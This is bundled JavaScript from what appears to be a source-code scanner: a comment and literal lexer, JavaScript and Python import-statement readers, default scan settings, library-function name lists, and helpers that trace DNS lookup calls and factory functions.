  /** Is this offset inside a comment (or, with `literals`, a literal), for certain? */
  inComment(offset, literals = false) {
    return this.commentStart(offset) >= 0 || literals && this.readsSurely(offset) && within(this.literals, offset) !== void 0;
  }
  /** Where the comment holding this offset starts, if it is in one for certain; else -1. */
  commentStart(offset) {
    if (!this.readsSurely(offset)) return -1;
    return within(this.comments, offset) ?? -1;
  }
  /** Is the text up to this offset read for certain (so an offset not in a comment is code)? */
  readsSurely(offset) {
    while (this.at <= offset && offset < this.unsureFrom) this.step();
    return offset < this.unsureFrom;
  }
  /** Read one token of code (or the rest of a template's text) from `at`. */
  step() {
    const { text } = this;
    if (this.at >= text.length) {
      this.at = text.length + 1;
      return;
    }
    if (this.templates.at(-1) === IN_TEXT) return this.templateText();
    CODE_STOP.lastIndex = this.at;
    const stop2 = CODE_STOP.exec(text);
    if (!stop2) {
      this.markCode(this.at, text.length);
      this.at = text.length + 1;
      return;
    }
    const i2 = stop2.index;
    this.markCode(this.at, i2);
    const c = text[i2];
    if (c === "/") {
      const next = text[i2 + 1];
      if (next === "/") return this.comment(i2, lineEnd(text, i2));
      if (next === "*") {
        const close = text.indexOf("*/", i2 + 2);
        return close < 0 ? this.unsure(i2) : this.comment(i2, close + 2);
      }
      const expression = this.expressionMayStart();
      if (expression === void 0) return this.unsure(i2);
      if (!expression) return this.code(i2);
      return this.literal(i2, regexEnd(text, i2));
    }
    if (c === "<") {
      const expression = this.expressionMayStart();
      return expression !== false && /^\s*[\p{L}_$>]/u.test(text.slice(i2 + 1, i2 + 64)) ? this.unsure(i2) : this.code(i2);
    }
    if (c === '"' || c === "'") return this.literal(i2, stringEnd(text, i2));
    if (c === "`") {
      this.templates.push(IN_TEXT);
      this.at = i2 + 1;
      return;
    }
    if (c === "(") {
      this.parens.push(HEAD_KEYWORDS.has(this.headWord(i2) ?? ""));
      return this.code(i2);
    }
    if (c === ")") {
      const head = this.parens.pop();
      if (head === void 0) return this.unsure(i2);
      this.code(i2);
      this.previousClosedHead = head;
      return;
    }
    if (c === "{") this.depth++;
    else if (this.templates.at(-1) === this.depth) {
      this.templates[this.templates.length - 1] = IN_TEXT;
      this.at = i2 + 1;
      return;
    } else if (this.depth === 0) return this.unsure(i2);
    else this.depth--;
    this.code(i2);
  }
  /** A template's text from `at`: to its closing backtick, or into a `${\u2026}`. */
  templateText() {
    const { text } = this;
    for (let i2 = this.at; i2 < text.length; i2++) {
      const c = text[i2];
      if (c === "\\") {
        i2++;
        continue;
      }
      const opens = c === "$" && text[i2 + 1] === "{";
      if (c !== "`" && !opens) continue;
      this.literals.push([this.at, i2]);
      if (opens) {
        this.templates[this.templates.length - 1] = this.depth;
        this.previous = i2 + 1;
        this.at = i2 + 2;
      } else {
        this.templates.pop();
        this.previous = i2;
        this.at = i2 + 1;
      }
      return;
    }
    this.unsure(this.at);
  }
  /**
   * May an expression start here (so `/` opens a regular expression, `<` JSX)? false: an operator is expected
   * (`/` divides); undefined: it depends on what this reader does not track.
   */
  expressionMayStart() {
    const { text } = this;
    if (this.previous < 0) return true;
    const c = text[this.previous];
    if (c === ")") return this.previousClosedHead;
    if (c === "}") return void 0;
    if (c === "+" || c === "-") return text[this.previous - 1] === c ? false : true;
    if (EXPRESSION_BEFORE.has(c)) return true;
    if (c === "]" || c === "." || c === '"' || c === "'" || c === "`" || c === "/") return false;
    if (!isIdentifierChar(c)) return void 0;
    const word = this.wordBefore(this.previous + 1);
    const start3 = this.previous + 1 - word.length;
    if (/[.#]\s*$/.test(text.slice(Math.max(0, start3 - 16), start3))) return false;
    if (CONTEXTUAL_KEYWORDS.has(word)) return void 0;
    return EXPRESSION_KEYWORDS.has(word) || LABEL_KEYWORDS.has(this.wordBefore(start3) ?? "");
  }
  /** The word (identifier or keyword) ending right before `end`, white space skipped; undefined if none. */
  wordBefore(end) {
    const { text } = this;
    let last = end - 1;
    while (last >= 0 && isSpace(text[last])) last--;
    let start3 = last + 1;
    while (start3 > 0 && isIdentifierChar(text[start3 - 1])) start3--;
    return start3 <= last ? text.slice(start3, last + 1) : void 0;
  }
  /** The keyword before a `(` that may head a statement: `for await (` is `for`'s. */
  headWord(paren) {
    const word = this.wordBefore(paren);
    if (word !== "await") return word;
    const at = this.text.lastIndexOf("await", paren);
    return this.wordBefore(at);
  }
  markCode(from, to) {
    for (let i2 = to - 1; i2 >= from; i2--) {
      if (!isSpace(this.text[i2])) {
        this.previous = i2;
        return;
      }
    }
  }
  /** One character of code at `i` (a `/` that divides, a brace, a parenthesis). */
  code(i2) {
    this.previous = i2;
    this.previousClosedHead = false;
    this.at = i2 + 1;
  }
  comment(start3, end) {
    this.comments.push([start3, end]);
    this.at = end;
  }
  /** A string or regular expression literal from `start` to `end` (undefined: unterminated on its line). */
  literal(start3, end) {
    if (end === void 0) return this.unsure(start3);
    this.literals.push([start3, end]);
    this.previous = end - 1;
    this.at = end;
  }
  unsure(from) {
    this.unsureFrom = from;
    this.at = this.text.length + 1;
  }
};
function within(ranges, offset) {
  for (let i2 = ranges.length - 1; i2 >= 0; i2--) {
    const [start3, end] = ranges[i2];
    if (end <= offset) return void 0;
    if (start3 <= offset) return start3;
  }
  return void 0;
}
var LINE_TERMINATOR = /[\n\r\u2028\u2029]/g;
function lineEnd(text, from) {
  LINE_TERMINATOR.lastIndex = from;
  return LINE_TERMINATOR.exec(text)?.index ?? text.length;
}
function stringEnd(text, start3) {
  const quote = text[start3];
  for (let i2 = start3 + 1; i2 < text.length; i2++) {
    const c = text[i2];
    if (c === "\\") i2++;
    else if (c === quote) return i2 + 1;
    else if (c === "\n" || c === "\r") return void 0;
  }
  return void 0;
}
function regexEnd(text, start3) {
  let inClass = false;
  for (let i2 = start3 + 1; i2 < text.length; i2++) {
    const c = text[i2];
    if (c === "\\") i2++;
    else if (c === "\n" || c === "\r") return void 0;
    else if (inClass && c === "[") return void 0;
    else if (inClass) inClass = c !== "]";
    else if (c === "[") inClass = true;
    else if (c === "/") {
      let end = i2 + 1;
      while (end < text.length && /[a-z]/.test(text[end])) end++;
      return end;
    }
  }
  return void 0;
}

// core/scan/literal.ts
var Literal = class {
  constructor(word) {
    this.word = word;
    let offset = 0;
    for (let i2 = 1; i2 <= word.length - 2; i2++) if (commonness(word[i2]) < commonness(word[offset])) offset = i2;
    this.offset = offset;
    this.part = word.slice(offset, offset + MAX_PART);
  }
  word;
  /** Where the part looked for starts in the literal, and the part. */
  offset;
  part;
  /** text.indexOf(this.word, from), for a from \u2265 0. */
  indexIn(text, from = 0) {
    for (let q = text.indexOf(this.part, from + this.offset); q >= 0; q = text.indexOf(this.part, q + 1)) if (text.startsWith(this.word, q - this.offset)) return q - this.offset;
    return -1;
  }
  in(text) {
    return this.indexIn(text) >= 0;
  }
};
var MAX_PART = 6;
var BY_COMMONNESS = ` etrsaoni
lcdup.hmgf	*(),y/_=b;v{}'w:k"`;
var commonness = (char) => {
  const rank = BY_COMMONNESS.indexOf(char);
  return rank < 0 ? -1 : BY_COMMONNESS.length - rank;
};

// core/scan/links.ts
var LOOKBACK = 4e3;
var PY_IMPORT = /(?<=^[ \t]*)import[ \t]+([^\n#;\\()]+)/my;
var PY_FROM = /(?<=^[ \t]*)from[ \t]+(\.+[\w.]*|[A-Za-z_][\w.]*)[ \t]+import[ \t]+(\((?:[^)#]|#[^\n]*(?![^\n]))*\)|[^\n#;]*)/my;
var IMPORT = new Literal("import");
var FROM = new Literal("from");
var IDENT2 = /^[\w$]+$/;
var EXPORT_STAR = /(?:^|[^\w$])__exportStar\s*$/;
var NAMESPACE_HELPER_NAME = String.raw`(?:[\w$]+\s*\.\s*)?(?:__importStar|_interopRequireWildcard|_interop_require_wildcard|__toESM)`;
var NAMESPACE_HELPER = new RegExp(String.raw`(?<![\w$])${NAMESPACE_HELPER_NAME}\s*$`);
var EXPORTS_ARGUMENT = /^\s*\)\s*,\s*exports\s*\)/;
var LinkReader = class {
  constructor(aliases = []) {
    this.aliases = aliases;
    this.starts = ["./", ...aliases.filter((a) => !a.startsWith("./") && !a.startsWith("../"))];
  }
  aliases;
  /** What a project specifier starts with after its quote: `./`, `../` (found as `./`), and the aliases. */
  starts;
  read(path2, text, place) {
    if (path2.endsWith(".py")) return text.includes("import") ? pythonLinks(text, place) : [];
    return this.javascriptLinks(text, place);
  }
  javascriptLinks(text, place) {
    const found = [];
    for (const start3 of this.starts) {
      for (let i2 = text.indexOf(start3); i2 >= 0; i2 = text.indexOf(start3, i2 + start3.length)) {
        const quote = start3 === "./" && text[i2 - 1] === "." ? i2 - 2 : i2 - 1;
        const q = text[quote];
        if (q !== '"' && q !== "'") continue;
        const end = text.indexOf(q, i2);
        if (end < 0 || text.slice(i2, end).includes("\n")) continue;
        found.push([quote, end]);
      }
    }
    if (this.starts.length > 1) found.sort((a, b) => a[0] - b[0]);
    const out2 = [];
    const comments = new Comments(text);
    let floor = 0;
    for (const [quote, end] of found) {
      const link2 = statementOf(text, quote, text.slice(quote + 1, end), comments, floor);
      floor = end + 1;
      if (!link2) continue;
      if (link2.reexport) link2.hop = place(link2.start, end + 1);
      out2.push({ specifier: link2.specifier, names: link2.names, reexport: link2.reexport, ...link2.namespace ? { namespace: link2.namespace } : {}, ...link2.inline ? { inline: true } : {}, ...link2.hop ? { hop: link2.hop } : {} });
    }
    return out2;
  }
};
var Comments = class {
  constructor(text) {
    this.text = text;
  }
  text;
  reader;
  /** Where the comment ending at `end` (inclusive), followed by `next`, starts, if it is one for certain; else -1. */
  startOf(end, next) {
    const { text } = this;
    if (text[end] === "/" && text[end - 1] === "*") {
      const reader = this.lexed();
      return reader.readsSurely(end) ? reader.commentStart(end) : text.lastIndexOf("/*", end - 2);
    }
    return lineBreakBetween(text, end, next) && lineCommentOpeners(text, end).length ? this.lexed().commentStart(end) : -1;
  }
  /**
   * Where else the last token before `next` may end than `end` (skipSpaceBack's reading): where the comments before
   * it are not read for certain and a line break follows it, before each `//`, `<!--` or `-->` on its line, and so on
   * back over lines each of which may be a comment (within LOOKBACK).
   */
  guesses(end, next) {
    const { text } = this;
    const out2 = [];
    const queue = [[end, next]];
    const seen = /* @__PURE__ */ new Set();
    for (let item = queue.pop(); item; item = queue.pop()) {
      const [at, after] = item;
      if (next - at > LOOKBACK || !lineBreakBetween(text, at, after)) continue;
      const openers = lineCommentOpeners(text, at);
      if (!openers.length || this.lexed().readsSurely(at)) continue;
      for (const opener of openers) {
        const guess = skipSpaceBack(text, opener, this);
        if (seen.has(guess)) continue;
        seen.add(guess);
        out2.push(guess);
        queue.push([guess, opener]);
      }
    }
    return out2;
  }
  /** May a comment stand in a statement's text[start, to), or hold its first word (on its line, from `from` on)? */
  mayBeIn(start3, to, from) {
    return COMMENT_MARK.test(this.text.slice(start3, to)) || lineCommentOpeners(this.text, start3, from).length > 0;
  }
  /**
   * text[from, to) with its comments blanked (offsets kept); `sure`: read for certain. Where it is not, a `//`
   * or `/*` is taken for a comment's start (the caller tries the text as it is too).
   */
  blanked(from, to) {
    const { text } = this;
    const reader = this.lexed();
    if (!reader.readsSurely(to)) return { text: text.slice(from, to).replace(COMMENTS, (c) => " ".repeat(c.length)), sure: false };
    let out2 = "";
    let kept = from;
    for (let i2 = text.indexOf("/", from); i2 >= 0 && i2 < to; i2 = text.indexOf("/", i2 + 1)) {
      const next = text[i2 + 1];
      if (next !== "/" && next !== "*" || reader.commentStart(i2) !== i2) continue;
      const end = Math.min(to, next === "/" ? lineEnd(text, i2) : text.indexOf("*/", i2 + 2) + 2);
      out2 += text.slice(kept, i2) + " ".repeat(end - i2);
      kept = end;
      i2 = end - 1;
    }
    return { text: out2 + text.slice(kept, to), sure: true };
  }
  lexed() {
    this.reader ??= new CommentReader(this.text);
    return this.reader;
  }
};
var COMMENT_MARK = /\/\/|\/\*|\*\/|<!--|-->/;
var COMMENTS = /(?:\/\/|<!--|-->)[^\n\r\u2028\u2029]*|\/\*[\s\S]*?\*\//g;
var isLineBreak = (c) => c === "\n" || c === "\r" || c === "\u2028" || c === "\u2029";
function lineBreakBetween(text, from, to) {
  for (let i2 = from + 1; i2 < to; i2++) if (isLineBreak(text[i2])) return true;
  return false;
}
function lineCommentOpeners(text, end, from = 0) {
  const out2 = [];
  for (let i2 = end; i2 >= from && !isLineBreak(text[i2]); i2--) {
    if (text[i2] === "/" && text[i2 + 1] === "/" || text.startsWith("<!--", i2) || text.startsWith("-->", i2)) out2.push(i2);
  }
  return out2;
}
function skipSpaceBack(text, at, comments) {
  let next = at;
  for (; ; ) {
    let i2 = next - 1;
    while (i2 >= 0 && /\s/.test(text[i2])) i2--;
    const start3 = i2 >= 0 ? comments.startOf(i2, next) : -1;
    if (start3 < 0) return i2;
    next = start3;
  }
}
function wordEndsAt(text, end, word) {
  const start3 = end - word.length + 1;
  return start3 >= 0 && text.startsWith(word, start3) && !/[\w$.]/.test(text[start3 - 1] ?? " ");
}
function statementOf(text, at, specifier, comments, floor) {
  const before = skipSpaceBack(text, at, comments);
  const read = statementBefore(text, before, at, specifier, comments, floor);
  if (read || before < 0) return read;
  for (const guess of comments.guesses(before, at)) {
    const guessed = statementBefore(text, guess, at, specifier, comments, floor);
    if (guessed) return guessed;
  }
  return void 0;
}
function statementBefore(text, before, at, specifier, comments, floor) {
  if (wordEndsAt(text, before, "from")) {
    const fromAt = before - 3;
    const window2 = Math.min(floor, fromAt);
    const plain = text.slice(window2, fromAt);
    const start3 = statementStart(plain);
    if (start3 < 0) return void 0;
    const read = importOrExport(plain, start3, specifier, window2);
    if (!comments.mayBeIn(window2 + start3, fromAt, window2)) return read;
    const code = comments.blanked(window2, fromAt);
    if (code.sure) return importOrExport(code.text, statementStart(code.text), specifier, window2);
    return read ?? importOrExport(code.text, statementStart(code.text), specifier, window2);
  }
  if (text[before] !== "(") return void 0;
  const call2 = skipSpaceBack(text, before, comments);
  const word = wordEndsAt(text, call2, "require") ? "require" : wordEndsAt(text, call2, "import") ? "import" : void 0;
  if (!word) return void 0;
  let eq = skipSpaceBack(text, call2 - word.length + 1, comments);
  if (word === "require" && text[eq] === "(" && EXPORT_STAR.test(text.slice(Math.max(0, eq - 40), eq)) && EXPORTS_ARGUMENT.test(text.slice(at + specifier.length + 2, at + specifier.length + 40))) {
    const start3 = skipSpaceBack(text, eq, comments) - "__exportStar".length + 1;
    return { specifier, names: [["*", "*"]], reexport: true, start: start3 };
  }
  const helper = word === "require" && text[eq] === "(" ? NAMESPACE_HELPER.exec(text.slice(Math.max(0, eq - 60), eq)) : null;
  if (helper) eq = skipSpaceBack(text, eq - helper[0].length, comments);
  if (wordEndsAt(text, eq, "await")) eq = skipSpaceBack(text, eq - 4, comments);
  if (text[eq] !== "=" || text[eq - 1] === "=" || text[eq - 1] === "!") return { specifier, names: [], inline: true, reexport: false, start: call2 - word.length + 1 };
  const targetEnd = skipSpaceBack(text, eq, comments);
  if (text[targetEnd] === "}") {
    const at2 = text.slice(floor, targetEnd).lastIndexOf("{");
    if (at2 < 0) return void 0;
    const open = floor + at2;
    return { specifier, names: named(text.slice(open + 1, targetEnd), ":"), reexport: false, start: open };
  }
  let s = targetEnd;
  while (s >= 0 && /[\w$.]/.test(text[s])) s--;
  const target = text.slice(s + 1, targetEnd + 1);
  if (target === "module.exports") return { specifier, names: [["*", "*"]], reexport: true, start: s + 1 };
  return IDENT2.test(target) ? { specifier, names: [["default", target]], namespace: target, reexport: false, start: s + 1 } : void 0;
}
var NAMES_IN_BRACES = /\{[^{}]*\}/;
var QUOTED_NAME = /"[^"\n;]*"|'[^'\n;]*'/g;
function statementStart(window2) {
  return Math.max(lastWord(window2, "import"), lastWord(window2, "export"));
}
function importOrExport(window2, start3, specifier, offset) {
  if (start3 < 0) return void 0;
  const clause = window2.slice(start3 + 6);
  if (/[;'"`]/.test(clause.replace(NAMES_IN_BRACES, (names) => names.replace(QUOTED_NAME, "_")))) return void 0;
  return window2.startsWith("import", start3) ? importClause(clause, specifier, offset + start3) : exportClause(clause, specifier, offset + start3);
}
function lastWord(window2, word) {
  for (let i2 = window2.lastIndexOf(word); i2 >= 0; i2 = i2 > 0 ? window2.lastIndexOf(word, i2 - 1) : -1) {
    if (!/[\w$.]/.test(window2[i2 - 1] ?? " ") && !/[\w$]/.test(window2[i2 + word.length] ?? " ")) return i2;
  }
  return -1;
}
function named(list, alias = "as") {
  const out2 = [];
  for (const part of list.split(",")) {
    const item = part.replace(/\/\/[^\n]*|\/\*[\s\S]*?\*\//g, "").trim();
    if (!item || /^type\s/.test(item)) continue;
    const [imported, local] = item.split(alias === "as" ? /\s+as\s+/ : /\s*:\s*/).map((s) => s.trim().replace(/^['"]|['"]$/g, ""));
    const name2 = local ?? imported;
    if (imported && IDENT2.test(name2)) out2.push([imported, name2]);
  }
  return out2;
}
function importClause(clause, specifier, start3) {
  let c = clause.trim();
  if (/^type[\s{*]/.test(c)) return void 0;
  const names = [];
  const open = c.indexOf("{");
  if (open >= 0) {
    names.push(...named(c.slice(open + 1, c.indexOf("}", open))));
    c = c.slice(0, open);
  }
  const namespace = /\*\s*as\s+([\w$]+)/.exec(c)?.[1];
  const def = /^([\w$]+)\s*(?:,|$)/.exec(c.trim())?.[1];
  if (def) names.push(["default", def]);
  if (!names.length && !namespace) return void 0;
  return { specifier, names, reexport: false, start: start3, ...namespace ? { namespace } : {} };
}
function exportClause(clause, specifier, start3) {
  const c = clause.trim();
  if (c === "*") return { specifier, names: [["*", "*"]], reexport: true, start: start3 };
  const namespace = /^\*\s*as\s+([\w$]+)$/.exec(c)?.[1];
  if (namespace) return { specifier, names: [["*", namespace]], namespace, reexport: true, start: start3 };
  const open = c.indexOf("{");
  if (open < 0 || /^type\s/.test(c)) return void 0;
  return { specifier, names: named(c.slice(open + 1, c.indexOf("}", open))), reexport: true, start: start3 };
}
function pythonLinks(text, place) {
  const out2 = [];
  for (const [, m] of pythonStatements(text, IMPORT, PY_IMPORT)) {
    for (const part of m[1].split(",")) {
      const [, dotted, alias] = /^\s*([A-Za-z_][\w.]*)(?:\s+as\s+([A-Za-z_]\w*))?\s*$/.exec(part) ?? [];
      if (dotted) out2.push({ specifier: dotted, names: [], namespace: alias ?? dotted, reexport: false });
    }
  }
  for (const [start3, m] of pythonStatements(text, FROM, PY_FROM)) {
    const list = m[2].replace(/[()\\]/g, " ").replace(/#[^\n]*/g, "");
    const names = list.trim() === "*" ? [["*", "*"]] : named(list.replace(/\s+as\s+/g, " as "));
    if (names.length) out2.push({ specifier: m[1], names, reexport: true, hop: place(start3, m.index + m[0].length) });
  }
  return out2;
}
function* pythonStatements(text, word, statement) {
  let end = 0;
  for (let at = word.indexIn(text); at >= 0; at = word.indexIn(text, Math.max(at + 1, end))) {
    let start3 = at;
    while (start3 > 0 && (text[start3 - 1] === " " || text[start3 - 1] === "	")) start3--;
    if (start3 < end) continue;
    statement.lastIndex = at;
    const m = statement.exec(text);
    if (!m) continue;
    end = m.index + m[0].length;
    yield [start3, m];
  }
}

// core/scan/config-defaults.ts
var DEFAULT_SCAN_CONFIG = {
  include: ["**/*.py", "**/*.pth", "**/*.js", "**/*.mjs", "**/*.cjs", "**/*.jsx", "**/*.ts", "**/*.mts", "**/*.cts", "**/*.tsx"],
  exclude: [],
  allow: [],
  rules: {},
  custom: [],
  "require-reason": false,
  "skip-declarations": true,
  "default-excludes": true
};

// core/scan/library-functions.ts
var QUOTES2 = /* @__PURE__ */ new Set(["'", '"', "`"]);
var STATEMENT_WINDOW = 400;
var JAVASCRIPT = {
  use: /^\s*(?:\?\.|\.|\(|`|\[|&&|\|\||\?\?|\?|[=!]==?)/,
  declaresBefore: /(?:\bfunction\s*\*?|\bclass)\s*$/,
  importedFrom(source, at, name2) {
    const after = source.slice(at + name2.length, at + name2.length + STATEMENT_WINDOW);
    const module2 = /^\s*=\s*require\s*\(\s*(["'])([^"'\n]*)\1\s*\)/.exec(after) ?? /^\s*(?:,\s*\{[^{}]*\}\s*)?from\s*(["'])([^"'\n]*)\1/.exec(after) ?? /^[^{}();=]*\}\s*(?:from\s*|=\s*require\s*\(\s*)(["'])([^"'\n]*)\1/.exec(after);
    return module2?.[2];
  }
};
var PYTHON = {
  use: /^\s*(?:[.([]|[=!]=|(?:and|or|is|if|else)\b)/,
  declaresBefore: /(?:\bdef|\bclass)\s+$/,
  declaresNothingBefore: /(?::|->|[\w\]]\[)\s*$/,
  importedFrom(source, at, name2) {
    const lineStart = source.lastIndexOf("\n", at) + 1;
    const line = /^[^;#\n]*/.exec(source.slice(lineStart))[0];
    if (at >= lineStart + line.length) return void 0;
    const from = /^[ \t]*from[ \t]+([\w.]+)[ \t]+import\b/.exec(line) ?? /(?:^|\n)[ \t]*from[ \t]+([\w.]+)[ \t]+import[ \t]*\([^);#]*$/.exec(source.slice(Math.max(0, at - STATEMENT_WINDOW), at));
    if (from) return from[1];
    const list = /^[ \t]*import[ \t]+(.*)/.exec(line)?.[1];
    for (const item of list?.split(",") ?? []) {
      const [module2, alias] = item.trim().split(/\s+as\s+/);
      if (module2 && (alias ?? module2.split(".")[0]) === name2) return module2;
    }
    return void 0;
  }
};
var JS_INSPECTORS = {
  syntax: JAVASCRIPT,
  names: /* @__PURE__ */ new Set(["expect", "spyOn", "mocked", "isMockFunction", "String", "Boolean", "log", "warn", "error", "info", "debug", "is", "equal", "strictEqual", "deepEqual", "notEqual", "isFunction", "inspect", "hasOwn", "getOwnPropertyDescriptor", "$gOPD", "gOPD"]),
  modules: /* @__PURE__ */ new Set(["assert", "node:assert", "assert/strict", "node:assert/strict", "util", "node:util", "vitest", "@jest/globals", "node:test", "chai", "sinon", "lodash", "underscore", "hasown", "gopd"])
};
var JS_PROMISIFY = { syntax: JAVASCRIPT, names: /* @__PURE__ */ new Set(["promisify"]), modules: /* @__PURE__ */ new Set(["util", "node:util"]) };
var PY_INSPECTORS = {
  syntax: PYTHON,
  names: /* @__PURE__ */ new Set(["isinstance", "issubclass", "callable", "bool", "hash", "id", "type", "repr", "str", "print", "hasattr", "setattr", "delattr", "object", "patch", "wraps", "signature", "getsource", "iscoroutinefunction", "cast", "TypeVar", "NewType"]),
  modules: /* @__PURE__ */ new Set(["functools", "unittest", "unittest.mock", "mock", "typing", "typing_extensions", "inspect", "asyncio", "builtins"])
};
var JS_COMPILER_HELPERS = {
  syntax: JAVASCRIPT,
  modules: /* @__PURE__ */ new Set(["tslib", "@swc/helpers", "@babel/runtime/helpers/interopRequireDefault", "@babel/runtime/helpers/interopRequireWildcard"]),
  ownFunction: /^\s*=\s*(?:function\b|\([^()]*\)\s*=>|[\w$]+\s*=>|\(\s*this\s*&&\s*this\s*\.\s*[\w$]+\s*\)\s*\|\|\s*function\b)/
};
var PY_DYNAMIC_NAMES = /* @__PURE__ */ new Set(["getattr", "importlib", "import_module", "__import__", "builtins", "__builtins__", "sys", "vars", "globals", "locals", "object", "pkgutil", "resolve_name", "operator", "attrgetter", "methodcaller", "find_spec", "module_from_spec"]);
var PY_DYNAMIC = {
  syntax: PYTHON,
  byFirstName: true,
  names: PY_DYNAMIC_NAMES,
  modules: /* @__PURE__ */ new Set(["builtins", "importlib", "importlib.util", "sys", "pkgutil", "operator"])
};
function isLibraryFunction(source, fn, functions) {
  const parts2 = fn.replace(/\s+/g, "").split(/\??\./);
  const last = parts2[parts2.length - 1];
  const root = parts2[0];
  if (functions.names && !functions.names.has(functions.byFirstName ? root : last)) return false;
  return /^[A-Za-z_$][\w$]*$/.test(root) && undeclared(source, root, functions);
}
var answered = { source: "", cache: /* @__PURE__ */ new Map() };
function undeclared(source, root, functions) {
  if (answered.source !== source) {
    answered.source = source;
    answered.cache.clear();
  }
  let byRoot = answered.cache.get(functions);
  if (!byRoot) answered.cache.set(functions, byRoot = /* @__PURE__ */ new Map());
  let answer = byRoot.get(root);
  if (answer === void 0) byRoot.set(root, answer = readUndeclared(source, root, functions));
  return answer;
}
function readUndeclared(source, root, { syntax, modules, ownFunction }) {
  const mention = new RegExp(String.raw`(?<![.\w$])${root.replace(/\$/g, "\\$")}(?![\w$])`, "g");
  for (let match = mention.exec(source); match; match = mention.exec(source)) {
    const end = match.index + root.length;
    if (QUOTES2.has(source[match.index - 1] ?? "") || QUOTES2.has(source[end] ?? "")) continue;
    const before = source.slice(Math.max(0, match.index - 16), match.index);
    const declaresFunction = syntax.declaresBefore.test(before);
    if (syntax.use.test(source.slice(end, end + 8)) && !declaresFunction) continue;
    if (syntax.declaresNothingBefore?.test(before)) continue;
    if (ownFunction && (declaresFunction || ownFunction.test(source.slice(end, end + 80)))) continue;
    const module2 = syntax.importedFrom(source, match.index, root);
    if (module2 === void 0 || !modules.has(module2)) return false;
  }
  return true;
}

// core/scan/lookups.ts
var import_node_net = require("node:net");
var SYSTEM_LOOKUPS = /* @__PURE__ */ new Set(["socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyname_ex", "asyncio.getaddrinfo", "trio.getaddrinfo", "dns.lookup", "dns/promises.lookup"]);
function looksUpNumericAddress(path2, call2, constants) {
  if (!call2 || !SYSTEM_LOOKUPS.has(`${path2.module}.${path2.members.at(-1)}`)) return false;
  const args2 = namedChildrenOf(call2);
  const host = args2.find((arg) => arg.type === "keyword_argument" && arg.childForFieldName("name")?.text === "host")?.childForFieldName("value") ?? args2[0];
  const address = host && host.type !== "keyword_argument" ? constants.stringOf(host) : void 0;
  return address !== void 0 && (0, import_node_net.isIP)(address) !== 0;
}
function sendsToConnectedPeer(path2, call2) {
  if (!call2 || path2.members.at(-1) !== "sendmsg") return false;
  const args2 = namedChildrenOf(call2);
  if (args2.some((arg) => arg.type !== "keyword_argument" && arg.type !== "comment" && arg.type.endsWith("splat"))) return false;
  return args2.filter((arg) => arg.type !== "keyword_argument" && arg.type !== "comment").length < (path2.members.at(-2) === RETURNED ? 4 : 5);
}

// core/scan/factories.ts
function returnsOfHanded(callees, source, known, language, handedTo2, accepts, resolve) {
  const out2 = [];
  if (!callees.length) return out2;
  const from = callees.reduce((start3, callee) => Math.min(start3, callee.startIndex), source.length);
  const values = returnedValues(source, callees[0].tree.rootNode, known, language, from);
  if (!values.length) return out2;
  const analysed = new Set(callees.map((callee) => callee.id));
  for (const value of values) {
    const callee = handedTo2(value);
    if (callee === void 0 || typeof callee !== "string" && (!analysed.has(callee.id) || !accepts(callee))) continue;
    const path2 = resolve(value);
    if (!path2 || path2.returns) continue;
    for (const held of path2.properties ? heldValues(path2) : [path2]) if (held.members.length > 0) out2.push({ value, path: held, callee });
  }
  return out2;
}
var MAX_FACTORY_DEPTH = 2;
var PAREN_WINDOW = 200;
var MAX_WALK = 64;
var WALK_NOTE = `Its \`return\` is nested more than ${MAX_WALK} levels deep in the function (followed ${MAX_WALK} levels deep; deeper is not followed: the top-level function holding it is taken as the factory)`;
var METHOD_WALK_NOTE = `Its \`return\` is nested more than ${MAX_WALK} levels deep in the method (followed ${MAX_WALK} levels deep; deeper is not followed: the method of the top-level class holding it is taken as the factory)`;
var MAX_NESTED_CLASSES = 8;
var CLASS_NOTE = `It is a method of a class nested more than ${MAX_NESTED_CLASSES} classes deep (followed ${MAX_NESTED_CLASSES} nested classes deep; deeper is not followed: any member of its outermost two classes is taken as the method)`;
var NESTED_NOTE = `It is returned by functions returning functions nested more than ${MAX_HANDED_DEPTH} functions deep (followed ${MAX_HANDED_DEPTH} functions deep; deeper is not followed: a call of the top-level function holding them is taken as the value)`;
function makerOf(value, calls, source, root, language) {
  const past = { hit: false };
  const steps = [];
  for (let returned = value, depth = calls, hops = 0; ; hops++) {
    const owner = language.ownerName(returned, past);
    const method = owner ? void 0 : language.staticMethod?.(returned);
    const placed2 = owner || method ? void 0 : language.placedFunction?.(returned);
    if (owner || method || placed2) return depth <= MAX_HANDED_DEPTH ? { owner, method, placed: placed2, calls: depth, steps, walked: past.hit, nested: false } : { owner, method, placed: placed2, calls: 1, steps, walked: past.hit, nested: true };
    const outer = returnedFunction(returned, source, root, language);
    if (!outer) return void 0;
    if (depth < MAX_HANDED_DEPTH && hops < MAX_HANDED_DEPTH) {
      returned = outer.node;
      if (!outer.called) depth++;
      steps.push(outer.node.parent ?? outer.node);
      continue;
    }
    const top = topDefinition(returned, language.functions);
    const body2 = top?.childForFieldName("body");
    const topOwner = body2 ? language.ownerName(body2) : void 0;
    const topMethod = body2 && !topOwner ? language.staticMethod?.(body2) : void 0;
    return topOwner || topMethod ? { owner: topOwner, method: topMethod, calls: 1, steps: [], walked: false, nested: true } : void 0;
  }
}
var CLASSES = /* @__PURE__ */ new Set(["class_body", "class_definition"]);
function returnedFunction(value, source, root, language) {
  const fn = enclosing(value, language.functions);
  if (!fn || CLASSES.has(fn.type)) return void 0;
  let name2;
  let holder = fn;
  if (language.inPlace.has(fn.type)) {
    let node = fn;
    while (node.parent?.type === "parenthesized_expression") node = node.parent;
    const parent = node.parent;
    if (parent && (parent.type === "return_statement" || language.inPlace.has(parent.type) && parent.childForFieldName("body")?.id === node.id)) return { node, called: false };
    const fields = parent ? LOCAL_HOLDERS[parent.type] : void 0;
    const local = fields && parent.childForFieldName(fields.value)?.id === node.id ? parent.childForFieldName(fields.name) : null;
    if (local?.type !== "identifier") return void 0;
    name2 = local.text;
    holder = parent;
  } else if (fn.type === language.declaration && fn.parent?.type !== "decorated_definition") name2 = fn.childForFieldName("name")?.text;
  const outer = name2 ? enclosing(holder, language.functions) : void 0;
  if (!outer || CLASSES.has(outer.type)) return void 0;
  for (let i2 = source.indexOf("return", outer.startIndex); i2 >= 0 && i2 < outer.endIndex; i2 = source.indexOf("return", i2 + 6)) {
    const at = valueStart(source, i2, "return");
    if (at === void 0 || identifierAt(source, at) !== name2) continue;
    const returned = returnedAt(source, root, i2, language);
    const called2 = returned !== void 0 && CALLS.has(returned.type);
    const callee = called2 ? returned.childForFieldName("function") : returned;
